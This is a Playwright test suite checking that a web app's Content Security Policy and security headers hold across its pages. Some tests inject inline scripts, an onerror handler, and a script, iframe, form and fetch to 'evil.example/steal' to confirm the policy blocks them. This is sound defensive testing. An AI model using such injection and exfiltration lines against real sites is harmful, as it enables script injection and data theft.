import type { Page } from '@playwright/test';
import { draftShow } from './drafts.ts';
import { expect, test } from './fixtures.ts';
import type { Account, Server } from './fixtures.ts';
import { openConsole, panel, signIn } from './pages.ts';
import { eveningShow } from './summary-show.ts';

// What browsers are told to refuse (svelte.config.js), and that no page of ours needs it.

/** Collects what the policy blocked and what the page complained of, with the page it happened on. */
async function watch(page: Page): Promise<string[]> {
	const seen: string[] = [];
	const path = () => new URL(page.url()).pathname;
	await page.exposeFunction('reportViolation', (text: string) => seen.push(`${path()}: ${text}`));
	await page.addInitScript(() => {
		addEventListener('securitypolicyviolation', (event) => {
			const report: unknown = Reflect.get(globalThis, 'reportViolation');
			const { effectiveDirective, blockedURI, sample, sourceFile } = event;
			if (typeof report !== 'function') return;
			report(`${effectiveDirective} blocked ${blockedURI} ${sample} in ${sourceFile}`);
		});
	});
	page.on('console', (message) => {
		if (['error', 'warning'].includes(message.type())) seen.push(`${path()}: ${message.text()}`);
	});
	page.on('pageerror', (error) => seen.push(`${path()}: ${error.message}`));
	return seen;
}

async function visit(page: Page, path: string): Promise<void> {
	await page.goto(path);
	await page.waitForLoadState('networkidle');
}

/** A live show with a winner, somebody who waits, and an item to talk about. */
async function liveShow(server: Server, account: Account): Promise<string> {
	const showId = await server.show(account, { '7': 3, '12': 1 });
	for (const user of ['ana', 'ben', 'cid']) await server.say(showId, user, 'sold 12');
	return showId;
}

for (const colorScheme of ['light', 'dark'] as const) {
	test.describe(`no page breaks the policy, ${colorScheme}`, () => {
		test.use({ colorScheme });

		test('signed out', async ({ page }) => {
			const seen = await watch(page);
			for (const path of ['/', '/sign-in', '/register', '/data-deletion?code=x']) {
				await visit(page, path);
			}
			expect(seen).toEqual([]);
		});

		test('signed in', async ({ page, server }) => {
			test.setTimeout(120_000);
			const account = await server.account();
			const live = await liveShow(server, account);
			const over = await eveningShow(server, account, 4);
			const draft = await draftShow(server, account, [{ number: '1', title: 'Bag', quantity: 1 }]);
			const seen = await watch(page);
			await signIn(page, account);
			for (const path of [
				...['/dashboard', '/shows', '/shows/new', '/shows/new?from=csv', '/shows/new?from=copy'],
				...['/rehearse', '/audit', '/buyers', '/connections'],
				...['/settings', '/settings/account', '/settings/members', '/settings/workspace'],
				...[`/shows/${draft}/setup`, `/shows/${draft}/presenter`, `/shows/${live}/console`],
				...[`/shows/${live}/presenter`, `/shows/${over}/summary`, `/shows/${over}/replay`],
				...[`/shows/${over}/buyers`, `/shows/${over}/buyers/slips`]
			]) {
				await visit(page, path);
				// Changing the theme adds a rule of its own for a moment.
				const toggle = page.getByRole('button', { name: 'Switch between light and dark' });
				if (await toggle.first().isVisible()) await toggle.first().click();
			}
			await visit(page, '/buyers');
			await page
				.getByRole('link', { name: /viewer_|ana/ })
				.first()
				.click();
			await page.waitForURL(/\/buyers\/./);
			await page.emulateMedia({ media: 'print' });
			await visit(page, `/shows/${over}/summary`);
			await page.emulateMedia({ media: 'screen' });
			expect(seen).toEqual([]);
		});

		test('dialogs, live updates, a toast and a download', async ({ page, server }) => {
			const account = await server.account();
			const live = await liveShow(server, account);
			const seen = await watch(page);
			await signIn(page, account);
			await openConsole(page, live);
			for (let n = 0; n < 50; n++) await server.say(live, `viewer_${n}`, 'sold 7');
			await expect(panel(page, 'Comments')).toContainText('viewer_49');

			await page.keyboard.press('?');
			await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toBeVisible();
			await page.keyboard.press('Escape');
			await expect(page.getByRole('dialog')).toHaveCount(0);
			await page.keyboard.press('Control+k');
			const bar = page.getByRole('combobox', { name: 'Command' });
			await bar.fill('+ 31 Blue dress x2');
			await expect(page.getByRole('dialog').getByRole('option').first()).toContainText(
				'Add item 31'
			);
			await page.keyboard.press('Enter');
			await expect(panel(page, 'Items')).toContainText('Blue dress');

			await server.context.actions.changeStatus(live, 'ended', 'user:test');
			await visit(page, `/shows/${live}/summary`);
			const menu = page.getByRole('dialog', { name: 'Export' });
			await page.getByRole('button', { name: 'Export', exact: true }).click();
			const download = page.waitForEvent('download');
			await menu.getByRole('button', { name: /^Claims/ }).click();
			await download;
			expect(seen).toEqual([]);
		});
	});
}

test.describe('an injected', () => {
	test('inline script, handler, style sheet or foreign script does nothing', async ({ page }) => {
		const seen = await watch(page);
		await visit(page, '/sign-in');
		await page.evaluate(() => {
			const script = document.createElement('script');
			script.textContent = 'window.injected = "script"';
			document.body.append(script);
			const holder = document.createElement('div');
			holder.innerHTML = '<img src="/missing.png" onerror="window.injected = \'handler\'" alt="">';
			document.body.append(holder);
			const foreign = document.createElement('script');
			foreign.src = 'https://evil.example/x.js';
			document.head.append(foreign);
			const style = document.createElement('style');
			style.textContent = 'body { display: none }';
			document.head.append(style);
		});
		const blocked = (what: string) => seen.filter((line) => line.includes(`: ${what} blocked`));
		await expect.poll(() => blocked('script-src-elem').length).toBe(2);
		await expect.poll(() => blocked('script-src-attr').length).toBe(1);
		await expect.poll(() => blocked('style-src-elem').length).toBe(1);
		expect(await page.evaluate(() => Reflect.get(globalThis, 'injected'))).toBeUndefined();
		await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
	});

	test('form, frame, base address or request to another site goes nowhere', async ({ page }) => {
		const seen = await watch(page);
		await visit(page, '/sign-in');
		await page.evaluate(() => {
			const base = document.createElement('base');
			base.href = 'https://evil.example/';
			document.head.append(base);
			const frame = document.createElement('iframe');
			frame.src = 'https://evil.example/';
			document.body.append(frame);
			fetch('https://evil.example/steal').catch(() => undefined);
			const form = document.createElement('form');
			form.action = 'https://evil.example/';
			document.body.append(form);
			form.submit();
		});
		for (const directive of ['base-uri', 'frame-src', 'connect-src', 'form-action']) {
			await expect
				.poll(() => seen.filter((line) => line.includes(`: ${directive} blocked`)).length)
				.toBe(1);
		}
		expect(new URL(page.url()).pathname).toBe('/sign-in');
	});
});

test('every kind of answer carries its headers: page, API, file, redirect, refusal, stand-in', async ({
	server
}) => {
	const { origin } = server.app;
	const css = /href="([^"]+\.css)"/.exec(await (await fetch(`${origin}/sign-in`)).text())?.[1];
	const answers = {
		page: await fetch(`${origin}/sign-in`),
		api: await fetch(`${origin}/api/trpc/auth.me`),
		refusedApi: await fetch(`${origin}/api/trpc/shows.list`),
		file: await fetch(new URL(css ?? '', `${origin}/sign-in`)),
		icon: await fetch(`${origin}/favicon.svg`),
		redirect: await fetch(`${origin}/dashboard`, { redirect: 'manual' }),
		missing: await fetch(`${origin}/no-such-page`),
		foreign: await fetch(`${origin}/sign-in`, {
			method: 'POST',
			headers: { origin: 'https://evil.example', cookie: 'a=b', accept: 'text/html' }
		}),
		health: await fetch(`${origin}/health/live`)
	};
	expect(answers.foreign.status).toBe(403);
	expect(await answers.foreign.text()).toContain('This request came from another site');
	for (const [what, { headers }] of Object.entries(answers)) {
		expect(headers.get('x-content-type-options'), what).toBe('nosniff');
		expect(headers.get('x-frame-options'), what).toBe('DENY');
		expect(headers.get('referrer-policy'), what).toBe('same-origin');
		expect(headers.get('cross-origin-opener-policy'), what).toBe('same-origin');
		expect(headers.get('cross-origin-resource-policy'), what).toBe('same-origin');
		expect(headers.get('permissions-policy'), what).toContain('camera=()');
		const policy = headers.get('content-security-policy') ?? '';
		expect(policy, what).toContain("frame-ancestors 'none'");
		expect(policy, what).toMatch(/default-src '(self|none)'/);
		expect(policy, what).not.toMatch(/script-src[^;]*unsafe/);
		expect(headers.get('x-powered-by'), what).toBeNull();
	}
	// Served over plain http, as the tests do, browsers must not be told to insist on TLS.
	expect(answers.page.headers.get('strict-transport-security')).toBeNull();
});
